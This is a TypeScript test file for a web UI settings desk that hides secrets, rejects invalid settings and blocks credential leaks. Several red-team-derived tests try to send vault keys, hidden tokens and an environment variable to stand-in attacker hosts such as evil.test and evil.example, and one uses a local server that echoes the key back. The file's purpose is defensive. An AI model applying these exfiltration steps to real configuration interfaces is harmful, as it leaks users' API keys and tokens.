/**
 * The web UI's settings desk: secret-looking values are hidden on the way out and kept on the
 * way back (never replaced by the marker), names of secrets are not hidden, settings that do
 * not fit the schema are refused with its problems and nothing is written, and the reference
 * lists documented keys.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { InvalidSettings, loadSettings } from '../../actors/modules/config.ts';
import { SecretAliases } from '../../actors/security/secretAliases.ts';
import { SecretVault } from '../../adapters/secrets/secretVault.ts';
import { HIDDEN, hideSecrets, restoreHidden, SettingsDesk, settingsReference } from '../../plugins/host/settingsDesk.ts';
import { useTempDir } from '../support/tempDir.ts';

const tempDir = useTempDir();

const STORED = {
  llm: { sources: [{ name: 'a', adapter: 'openai', baseUrl: 'http://127.0.0.1:1/v1', model: 'm', apiKey: 'sk-plain-1234' }] },
  plugins: { spy: { token: 'tok-99', apiKeySecret: 'SPY_KEY', greeting: 'hi' } },
};

describe('the settings desk', () => {
  it('hides secret-looking values, not the names of secrets, and puts them back when sent back unchanged', () => {
    const hidden = hideSecrets(STORED) as typeof STORED;
    expect(hidden.llm.sources[0]!.apiKey).toBe(HIDDEN);
    expect(hidden.plugins.spy).toEqual({ token: HIDDEN, apiKeySecret: 'SPY_KEY', greeting: 'hi' });
    expect(JSON.stringify(hidden)).not.toContain('sk-plain-1234');
    expect(restoreHidden(hidden, STORED)).toEqual(STORED);
    // A URL carrying credentials is hidden whole, and kept when sent back (found by the hostile tester).
    const withUrls = { plugins: { feed: { url: 'http://user:pw@x/?token=abc&q=1', other: 'http://x/?q=1', note: 'not a url' } } };
    const shown = hideSecrets(withUrls) as typeof withUrls;
    expect(shown.plugins.feed).toEqual({ url: HIDDEN, other: 'http://x/?q=1', note: 'not a url' });
    expect(hideSecrets({ a: 'https://x/?api_key=1' })).toEqual({ a: HIDDEN });
    expect(restoreHidden(shown, withUrls)).toEqual(withUrls);
    // Red team round 2: an auth header, a cookie and a webhook URL were shown as written.
    const bot = { auth: 'Basic dXNlcjpwYXNz', cookie: 'sess-4', webhook: 'https://h/xoxb-5', header: 'Bearer abcdefgh12', author: 'Ada' };
    expect(hideSecrets({ plugins: { bot } })).toEqual({
      plugins: { bot: { auth: HIDDEN, cookie: HIDDEN, webhook: HIDDEN, header: HIDDEN, author: 'Ada' } },
    });
    // A marker with nothing stored under it is dropped, never written as a value.
    expect(restoreHidden({ plugins: { other: { password: HIDDEN } } }, STORED)).toEqual({ plugins: { other: {} } });
  });

  it('writes settings that fit the schema, and refuses the rest with its problems, writing nothing', async () => {
    const dir = tempDir();
    writeFileSync(join(dir, 'settings.json'), JSON.stringify(STORED));
    const desk = new SettingsDesk(dir);
    const refused = await desk.save({ llm: { sources: 5 } });
    expect(refused.problems.map((p) => p.key)).toEqual(['llm.sources']);
    expect(JSON.parse(readFileSync(join(dir, 'settings.json'), 'utf8'))).toEqual(STORED);
    const edited = desk.read().settings as typeof STORED;
    edited.plugins.spy.greeting = 'hello';
    expect((await desk.save(edited)).problems).toEqual([]);
    const written = JSON.parse(readFileSync(join(dir, 'settings.json'), 'utf8'));
    expect(written.plugins.spy).toEqual({ token: 'tok-99', apiKeySecret: 'SPY_KEY', greeting: 'hello' });
    expect(written.llm.sources[0].apiKey).toBe('sk-plain-1234');
  });

  it('refuses a web UI port out of range and an unknown projection by the same rule at save and at start', async () => {
    const refusedBoth = [
      { settings: { plugins: { webui: { port: 70000 } } }, key: 'plugins.webui.port', says: 'a whole number from 0 to 65535' },
      { settings: { plugins: { webui: { port: -1 } } }, key: 'plugins.webui.port', says: 'a whole number from 0 to 65535' },
      { settings: { projections: { inline: ['kernel', 'no_such'] } }, key: 'projections.inline[1]', says: '"memory_scenes"' },
    ];
    for (const { settings, key, says } of refusedBoth) {
      const dir = tempDir();
      const saved = await new SettingsDesk(dir).save(settings);
      expect(saved.problems, JSON.stringify(settings)).toEqual([{ key, problem: expect.stringContaining(says) }]);
      expect(() => readFileSync(join(dir, 'settings.json')), 'nothing written').toThrow(/ENOENT/);
      // The same file written by hand is refused at start, with the same words.
      writeFileSync(join(dir, 'settings.json'), JSON.stringify(settings));
      expect(() => loadSettings(dir)).toThrow(InvalidSettings);
      expect(() => loadSettings(dir)).toThrow(`${key}: ${saved.problems[0]!.problem}`);
    }
  });

  it('never sends a secret set for tools in a probe, which may go to any URL', async () => {
    const dir = tempDir();
    const desk = new SettingsDesk(dir);
    desk.setSecret('GITHUB_TOKEN', 'ghp_never_sent_1234', ['github_*']);
    // Nothing listens on port 9: had the key been taken, the probe would fail to connect instead.
    await expect(
      desk.probe({ adapter: 'openai', baseUrl: 'http://127.0.0.1:9/v1', model: 'm', apiKeySecret: 'GITHUB_TOKEN' }),
    ).rejects.toThrow('GITHUB_TOKEN is set for tools (github_*) and is filled only into them');
  });

  // Red team round 2: whoever held the page's token had a vault key sent to a server of theirs by a probe.
  it('sends a vault key in a probe only to the server of a saved source that names it', async () => {
    const dir = tempDir();
    const saved = { name: 'a', adapter: 'openai', baseUrl: 'http://127.0.0.1:9/v1', model: 'm', apiKeySecret: 'LLM_A' };
    writeFileSync(join(dir, 'settings.json'), JSON.stringify({ llm: { sources: [saved] } }));
    const desk = new SettingsDesk(dir);
    // Set as `homed secret set` sets it: the page does not know its value.
    SecretVault.open(dir).set('LLM_A', 'sk-only-to-a-1234');
    for (const baseUrl of ['http://127.0.0.1:10/v1', 'http://evil.test/v1', 'https://127.0.0.1:9/v1']) {
      await expect(desk.probe({ adapter: 'openai', baseUrl, model: 'm', apiKeySecret: 'LLM_A' }), baseUrl).rejects.toThrow(
        'LLM_A is sent only to the servers of the saved model sources that name it (http://127.0.0.1:9)',
      );
    }
    // The saved source's server (nothing listens there): the probe goes, and says it could not connect.
    const tried = await desk.probe({ adapter: 'openai', baseUrl: 'http://127.0.0.1:9/other', model: 'm', apiKeySecret: 'LLM_A' });
    expect(tried.error ?? tried.listError).toBeDefined();
  });

  // Red team round 10: the page saved its source's URL as a server of theirs, then probed: the key went there and came
  // back to the page as the names of the models and the answer.
  it('saves no source that sends a vault key somewhere the saved ones do not, and gives back no echo of the key', async () => {
    const dir = tempDir();
    const key = 'sk-only-to-a-1234';
    const echo = createServer((request, response) => {
      const said = `${request.headers.authorization} ${Buffer.from(key).toString('base64')}`;
      response.setHeader('content-type', 'application/json');
      response.end(
        JSON.stringify(
          request.url?.endsWith('/models')
            ? { data: [{ id: `echo ${said}` }] }
            : { choices: [{ message: { role: 'assistant', content: `you sent ${said}` }, finish_reason: 'stop' }] },
        ),
      );
    });
    await new Promise<void>((resolve) => echo.listen(0, '127.0.0.1', resolve));
    try {
      const baseUrl = `http://127.0.0.1:${(echo.address() as AddressInfo).port}/v1`;
      const source = { name: 'a', adapter: 'openai', baseUrl, model: 'm', apiKeySecret: 'LLM_A' };
      writeFileSync(join(dir, 'settings.json'), JSON.stringify({ llm: { sources: [source] } }));
      const desk = new SettingsDesk(dir, (value) => new SecretAliases(dir).scrubDeep(value));
      SecretVault.open(dir).set('LLM_A', key);
      const elsewhere = { ...source, baseUrl: 'http://evil.test/v1' };
      expect((await desk.save({ llm: { sources: [elsewhere] } })).problems).toEqual([
        {
          key: 'llm.sources[0].baseUrl',
          problem: expect.stringContaining(
            `send the vault key LLM_A to http://evil.test; the saved sources send it only to http://127.0.0.1:`,
          ),
        },
      ]);
      expect(JSON.parse(readFileSync(join(dir, 'settings.json'), 'utf8')).llm.sources[0].baseUrl).toBe(baseUrl);
      // Another path of the same server is the page's to give, and a key the page set itself goes anywhere.
      desk.setSecret('LLM_B', 'sk-page-typed-5678');
      const moved = [
        { ...source, baseUrl: `${baseUrl}/again` },
        { ...source, name: 'b', baseUrl: 'http://other.test/v1', apiKeySecret: 'LLM_B' },
      ];
      expect((await desk.save({ llm: { sources: moved } })).problems).toEqual([]);
      const probed = await desk.probe({ adapter: 'openai', baseUrl, model: 'm', apiKeySecret: 'LLM_A' });
      expect(probed.models).toEqual([expect.stringMatching(/^echo Bearer /)]);
      expect(probed.answer).toMatch(/^you sent Bearer /);
      expect(JSON.stringify(probed)).not.toMatch(new RegExp(`${key}|${Buffer.from(key).toString('base64')}`));
    } finally {
      echo.close();
    }
  });

  // Red team round 14: the page dropped the source in one save and named the key with its own server in the next (no
  // saved source named it then), kept a hidden apiKey and moved its URL, and added a source sending one of homed's
  // environment variables; the probe, or the next start, sent each key there.
  it('sends no key the page did not set anywhere new: not after the source is dropped, not as a hidden apiKey, not from the environment', async () => {
    const dir = tempDir();
    const good = { name: 'good', adapter: 'openai', baseUrl: 'http://127.0.0.1:9/v1', model: 'm', apiKeySecret: 'LLM_GOOD' };
    const inline = { name: 'inline', adapter: 'openai', baseUrl: 'http://127.0.0.1:8/v1', model: 'm', apiKey: 'sk-inline-secret-1234' };
    writeFileSync(join(dir, 'settings.json'), JSON.stringify({ llm: { sources: [inline, good] } }));
    SecretVault.open(dir).set('LLM_GOOD', 'sk-vault-secret-1234');
    SecretVault.open(dir).set('LLM_UNNAMED', 'sk-unnamed-secret-1234');
    const desk = new SettingsDesk(dir);
    const evil = 'http://evil.test/v1';
    // The page drops the source that names LLM_GOOD (the hidden apiKey kept as the file holds it).
    expect((await desk.save({ llm: { sources: [{ ...inline, apiKey: HIDDEN }] } })).problems).toEqual([]);
    const problems = (
      await desk.save({
        llm: {
          sources: [
            { ...inline, baseUrl: evil, apiKey: HIDDEN },
            { ...good, baseUrl: evil },
            { ...good, name: 'env', baseUrl: evil, apiKeySecret: undefined, apiKeyEnv: 'HOME' },
            { ...good, name: 'unnamed', baseUrl: evil, apiKeySecret: 'LLM_UNNAMED' },
          ],
        },
      })
    ).problems.map((p) => p.problem);
    expect(problems).toEqual([
      expect.stringContaining(
        'would send the apiKey the file holds to http://evil.test; the saved sources send it only to http://127.0.0.1:8',
      ),
      expect.stringContaining('would send the vault key LLM_GOOD to http://evil.test; the saved sources send it nowhere'),
      expect.stringContaining("would send the value of homed's environment variable HOME to http://evil.test"),
      expect.stringContaining('would send the vault key LLM_UNNAMED to http://evil.test'),
    ]);
    await expect(desk.probe({ adapter: 'openai', baseUrl: evil, model: 'm', apiKeySecret: 'LLM_GOOD' })).rejects.toThrow(
      'LLM_GOOD is sent only to the servers of the saved model sources that name it (none)',
    );
    expect(readFileSync(join(dir, 'settings.json'), 'utf8')).not.toContain('evil');
    // An apiKey the page types, it knows: it may go anywhere.
    expect((await desk.save({ llm: { sources: [{ ...inline, baseUrl: evil, apiKey: 'sk-typed-on-the-page-99' }] } })).problems).toEqual([]);
  });

  // Red team round 16: the page kept a plugin's hidden token and moved the plugin's URL to a server of theirs.
  it("keeps a hidden value only where its holder still sends things: a plugin's token goes to no new URL unless typed again", async () => {
    const dir = tempDir();
    const stored = { plugins: { spy: { token: 'tok-real-9999', url: 'https://api.telegram.org', greeting: 'hi' } } };
    writeFileSync(join(dir, 'settings.json'), JSON.stringify(stored));
    const desk = new SettingsDesk(dir);
    const shown = desk.read().settings as typeof stored;
    expect(shown.plugins.spy.token).toBe(HIDDEN);
    const moved = await desk.save({ plugins: { spy: { ...shown.plugins.spy, url: 'https://evil.example' } } });
    expect(moved.problems).toEqual([
      {
        key: 'plugins.spy.url',
        problem: 'would send the hidden token kept here to "https://evil.example": type token again to send it somewhere new',
      },
    ]);
    expect(readFileSync(join(dir, 'settings.json'), 'utf8')).not.toContain('evil');
    // Another field changed, or the token typed again with the new URL: saved.
    expect((await desk.save({ plugins: { spy: { ...shown.plugins.spy, greeting: 'hello' } } })).problems).toEqual([]);
    expect(
      (await desk.save({ plugins: { spy: { ...shown.plugins.spy, token: 'tok-new-1', url: 'https://evil.example' } } })).problems,
    ).toEqual([]);
  });

  // 3,000 levels sent to the web UI answered 500 'Maximum call stack size exceeded' (found by the hostile tester).
  it('refuses settings nested past 64 levels with a problem, at save, at read and at start, never overflowing', async () => {
    const dir = tempDir();
    writeFileSync(join(dir, 'settings.json'), JSON.stringify(STORED));
    const nested = (depth: number, leaf: unknown, wrap: (inner: unknown) => unknown): unknown =>
      Array.from({ length: depth }).reduce((inner) => wrap(inner), leaf);
    const problem = { key: '(the file)', problem: 'nests lists and objects more than 64 levels deep; settings need a few' };
    const desk = new SettingsDesk(dir);
    for (const deep of [nested(3_000, 1, (inner) => ({ a: inner })), nested(3_000, 1, (inner) => [inner])]) {
      expect((await desk.save({ plugins: { x: deep } })).problems).toEqual([problem]);
    }
    expect(JSON.parse(readFileSync(join(dir, 'settings.json'), 'utf8'))).toEqual(STORED);
    // A plugin's own settings may nest a little: 60 levels under plugins.x are saved.
    expect((await desk.save({ ...STORED, plugins: { x: nested(60, 1, (inner) => ({ a: inner })) } })).problems).toEqual([]);
    writeFileSync(join(dir, 'settings.json'), JSON.stringify({ plugins: { x: nested(3_000, 1, (inner) => [inner]) } }));
    expect(desk.read().broken).toMatch(/nests lists and objects more than 64 levels deep/);
    expect(() => loadSettings(dir)).toThrow(InvalidSettings);
    expect(() => loadSettings(dir)).toThrow(/nests lists and objects more than 64 levels deep/);
  });

  it('says when settings.json is not JSON instead of showing it as empty', () => {
    const dir = tempDir();
    writeFileSync(join(dir, 'settings.json'), '{ not json');
    expect(new SettingsDesk(dir).read().broken).toMatch(/is not valid JSON/);
  });

  it('lists documented keys, nested ones by dotted path', () => {
    const keys = settingsReference().map((r) => r.key);
    expect(keys).toEqual(expect.arrayContaining(['llm.sources', 'llm.sources[].baseUrl', 'llm.sources[].apiKeySecret', 'timeZone']));
  });
});
